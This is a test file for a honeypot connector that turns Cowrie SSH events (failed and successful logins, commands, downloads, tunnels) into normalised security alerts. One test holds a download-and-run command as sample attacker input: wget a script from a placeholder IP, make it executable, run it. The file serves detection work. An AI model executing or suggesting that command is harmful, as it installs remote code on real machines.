import { describe, expect, it } from "vitest";
import { normaliseAlert } from "../../normalise.js";
import type { Decoded } from "../tail/connector.js";
import { CowrieSettings, mappingOptions } from "./client.js";
import { MAX_SESSIONS, decodeCowrie, decodeCowrieLine, initialCowrieState, type CowrieState } from "./mapping.js";
import { closed, command, connect, download, loginFailed, loginSuccess, tunnel, upload } from "./testing.js";

const options = (over: Record<string, unknown> = {}) => mappingOptions(CowrieSettings.parse({ name: "hp", kind: "cowrie", path: "/cowrie/var/log/cowrie/cowrie.json", ...over }));
function alertOf(decoded: Decoded) {
  if (decoded.kind !== "alert") throw new Error(`expected an alert, got ${JSON.stringify(decoded)}`);
  return decoded.alert;
}
function normalised(generic: unknown) {
  const result = normaliseAlert(generic, { id: "a1", receivedAt: "2026-11-24T12:00:00.000Z", origin: { via: "connector" } });
  if (!result.ok) throw new Error(JSON.stringify(result.issues));
  return result.alert;
}
const decode = (event: Record<string, unknown>, over: Record<string, unknown> = {}) => decodeCowrieLine(JSON.stringify(event), options(over));
/** Everything of a stored alert except `raw`, as text: where a secret must never appear. */
const outsideRaw = (alert: Record<string, unknown>) => JSON.stringify({ ...alert, raw: undefined });

describe("Cowrie mapping", () => {
  it("a failed login is a low ssh_bruteforce alert from the attacker, and the password stays in raw only", () => {
    const secret = "Summer2026!corp";
    const generic = alertOf(decode(loginFailed(secret)));
    const alert = normalised(generic);
    expect(alert).toMatchObject({
      source: "cowrie",
      time: "2026-11-24T10:00:01.200Z",
      title: 'Honeypot login failed as "root" from 45.148.10.92',
      severity: "low",
      subtype: "ssh_bruteforce",
      rule: { id: "cowrie.login.failed", title: "cowrie.login.failed", source: "cowrie" },
      attack: { techniques: ["T1110.001"], tactics: ["Credential Access"] },
      host: { name: "hp-ssh-01" },
      src: { ip: "45.148.10.92" },
      user: null,
    });
    expect(alert.source_id).toMatch(/^a3f1c2d4e5b6:cowrie\.login\.failed:2026-11-24T10:00:01\.200000Z:[0-9a-f]{8}$/);
    expect(outsideRaw(alert as unknown as Record<string, unknown>)).not.toContain(secret);
    expect((alert.raw as { password: string }).password).toBe(secret);
    expect(alert.unmapped).toMatchObject({ vendor_severity: "cowrie.login.failed", cowrie_username: "root" });
  });

  it("a successful login is high (an attacker got in), without the password anywhere but raw", () => {
    const alert = normalised(alertOf(decode(loginSuccess("admin123"))));
    expect(alert).toMatchObject({ severity: "high", subtype: "honeypot_login", attack: { techniques: ["T1078"] } });
    expect(outsideRaw(alert as unknown as Record<string, unknown>)).not.toContain("admin123");
  });

  it("a command is medium with the input as the command line", () => {
    const input = "cd /tmp; wget http://198.51.100.77/bins/x86.sh; chmod +x x86.sh; ./x86.sh";
    const alert = normalised(alertOf(decode(command(input))));
    expect(alert).toMatchObject({ severity: "medium", subtype: "honeypot_command", process: { command_line: input }, attack: { techniques: ["T1059.004"] } });
    expect(alert.title).toBe(`Honeypot command from 45.148.10.92: ${input}`);
  });

  it("a download is high malware_download with the url and the sha256 as observables", () => {
    const alert = normalised(alertOf(decode(download())));
    expect(alert).toMatchObject({ severity: "high", subtype: "malware_download", dst: { url: "http://198.51.100.77/bins/x86.sh" }, attack: { techniques: ["T1105"] } });
    expect(alert.observables).toEqual(expect.arrayContaining([
      { type: "file_hash", value: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", role: "other" },
      { type: "url", value: "http://198.51.100.77/bins/x86.sh", role: "dst" },
      { type: "ip", value: "45.148.10.92", role: "src" },
    ]));
    const up = normalised(alertOf(decode(upload())));
    expect(up).toMatchObject({ severity: "high", subtype: "malware_download", title: "Honeypot file upload by 45.148.10.92: kinsing" });
    expect(up.observables).toContainEqual({ type: "file_hash", value: "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae", role: "other" });
  });

  it("a tunnel request targets its destination; the attacker comes from the session's connect event", () => {
    let state: CowrieState = initialCowrieState();
    const first = decodeCowrie(JSON.stringify(connect()), state, options());
    expect(first.result).toEqual({ kind: "skip" });
    state = first.state;
    const alert = normalised(alertOf(decodeCowrie(JSON.stringify(tunnel()), state, options()).result));
    expect(alert).toMatchObject({ severity: "medium", subtype: "honeypot_tunnel", src: { ip: "45.148.10.92" }, dst: { domain: "smtp.example.net", port: 25 }, host: { name: "hp-ssh-01", ip: ["10.99.0.5"] } });
    expect(alert.unmapped).toMatchObject({ cowrie_protocol: "ssh", tunnel_claimed_origin: { ip: "127.0.0.1", port: 0 } });
    // Without the connect event, the claimed origin is all there is.
    expect(normalised(alertOf(decode(tunnel()))).src).toEqual({ ip: "127.0.0.1" });
    expect(decodeCowrie(JSON.stringify(closed()), state, options()).state.sessions).toEqual({});
  });

  it("keeps a bounded number of sessions in its state", () => {
    let state = initialCowrieState();
    for (let i = 0; i < MAX_SESSIONS + 10; i++) state = decodeCowrie(JSON.stringify(connect({ session: `s${i}` })), state, options()).state;
    expect(Object.keys(state.sessions)).toHaveLength(MAX_SESSIONS);
    expect(state.sessions.s0).toBeUndefined();
    expect(state.sessions[`s${MAX_SESSIONS + 9}`]).toBeDefined();
  });

  it("the eventid table is configurable: add, override, ignore", () => {
    const table = { "cowrie.session.connect": "informational", "cowrie.login.failed": "ignore", "cowrie.command.input": "high" };
    expect(decode(connect())).toEqual({ kind: "skip" });
    expect(alertOf(decode(connect(), { severity: table })).severity).toBe("informational");
    expect(decode(loginFailed("x"), { severity: table })).toEqual({ kind: "skip" });
    expect(alertOf(decode(command("id"), { severity: table })).severity).toBe("high");
    expect(alertOf(decode(download(), { severity: table })).severity).toBe("high");
  });

  it("repeats of one event in one microsecond stay apart; the same line read twice keeps its id", () => {
    const a = alertOf(decode(loginFailed("123456")));
    const b = alertOf(decode(loginFailed("1234567")));
    expect(a.source_id).not.toBe(b.source_id);
    expect(alertOf(decode(loginFailed("123456"))).source_id).toBe(a.source_id);
  });

  it("rejects lines that are not Cowrie events", () => {
    expect(decodeCowrieLine("2026-11-24T10:00:00+0000 [HoneyPotSSHTransport] connection lost")).toMatchObject({ kind: "reject" });
    expect(decodeCowrieLine('{"foo": 1}')).toEqual({ kind: "reject", reason: "no eventid (not a Cowrie event)" });
    expect(decodeCowrieLine(JSON.stringify(loginFailed("x", { timestamp: "n/a" })))).toMatchObject({ kind: "reject", reason: expect.stringMatching(/timestamp/) });
  });
});
